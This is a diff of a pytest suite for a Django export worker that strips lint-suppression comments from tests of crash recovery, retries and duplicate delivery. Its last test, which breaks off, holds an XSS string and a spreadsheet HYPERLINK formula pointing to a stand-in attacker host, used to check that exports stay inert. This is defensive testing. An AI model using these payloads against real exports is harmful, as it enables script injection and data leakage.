@@ -39,12 +39,12 @@ pytestmark = [pytest.mark.worker, pytest.mark.django_db(transaction=True)]
 STALE = timedelta(seconds=2)
 
 
-def job_state(job_id) -> ExportJob:  # noqa: ANN001
+def job_state(job_id) -> ExportJob:
     with scopes_disabled():
         return ExportJob.objects.get(pk=job_id)
 
 
-def files_of(media_root: Path, org) -> list[str]:  # noqa: ANN001
+def files_of(media_root: Path, org) -> list[str]:
     folder = media_root / "exports" / str(org.pk)
     return sorted(p.name for p in folder.iterdir()) if folder.exists() else []
 
@@ -52,11 +52,11 @@ def files_of(media_root: Path, org) -> list[str]:  # noqa: ANN001
 def reclaim_until(predicate_key: str, queue: str, timeout: float = 60) -> dict[str, int]:
     """Run the beat task's service until it acts (the killed worker's heartbeat must first go stale)."""
     return wait_for(lambda: (r := services.export_reclaim_stale(stale_after=STALE, queue=queue))[predicate_key] and r,
-                    timeout=timeout, interval=1, message=f"reclaim {predicate_key}")  # noqa: B023
+                    timeout=timeout, interval=1, message=f"reclaim {predicate_key}")
 
 
 def test_worker_killed_mid_render_the_job_is_reclaimed_and_completed(org, media_root, worker_factory,
-                                                                     private_queue) -> None:  # noqa: ANN001
+                                                                     private_queue) -> None:
     first = worker_factory(private_queue)
     job = services.export_job_create(organization=org, actor=None, kind=ExportJob.Kind.DOSSIER_PDF,
                                      parameters={"slow_seconds": 3}, queue=private_queue)
@@ -82,7 +82,7 @@ def test_worker_killed_mid_render_the_job_is_reclaimed_and_completed(org, media_
 
 
 def test_a_killed_worker_s_job_is_shown_interrupted_then_resumed_by_the_next_worker_to_start(
-        org, admin_user, client_for, media_root, worker_factory, private_queue) -> None:  # noqa: ANN001
+        org, admin_user, client_for, media_root, worker_factory, private_queue) -> None:
     # The rule the page relies on: several heartbeats fit in STALE_AFTER, and it is shown within a minute.
     assert HEARTBEAT_SECONDS * 3 < STALE_AFTER.total_seconds() < 60
     client = client_for(admin_user)
@@ -117,7 +117,7 @@ def test_a_killed_worker_s_job_is_shown_interrupted_then_resumed_by_the_next_wor
 
 
 def test_worker_killed_on_the_last_attempt_the_job_fails_with_a_reason(org, media_root, worker_factory,
-                                                                         private_queue) -> None:  # noqa: ANN001
+                                                                         private_queue) -> None:
     worker = worker_factory(private_queue)
     job = ExportJobFactory(organization=org, kind=ExportJob.Kind.WORKBOOK_XLSX, language="fr",
                            attempts=services.MAX_ATTEMPTS - 1, parameters={"slow_seconds": 5})
@@ -132,7 +132,7 @@ def test_worker_killed_on_the_last_attempt_the_job_fails_with_a_reason(org, medi
     assert not any(name.endswith(".xlsx") for name in files_of(media_root, org))
 
 
-def test_the_same_message_delivered_twice_renders_once(org, media_root, worker_factory, private_queue) -> None:  # noqa: ANN001
+def test_the_same_message_delivered_twice_renders_once(org, media_root, worker_factory, private_queue) -> None:
     worker = worker_factory(private_queue, concurrency=2)
     job = ExportJobFactory(organization=org, kind=ExportJob.Kind.WORKBOOK_XLSX, parameters={"slow_seconds": 1})
     task_id = f"export-{job.pk}"
@@ -152,7 +152,7 @@ def test_the_same_message_delivered_twice_renders_once(org, media_root, worker_f
 
 
 def test_markup_and_formulas_typed_by_users_stay_inert(org, media_root, worker_factory, private_queue,
-                                                       tmp_path) -> None:  # noqa: ANN001
+                                                       tmp_path) -> None:
     script = "<script>alert(1)</script>"
     hyperlink = '=HYPERLINK("http://evil.example/?leak=1","Cliquez ici")'
     org.name = script
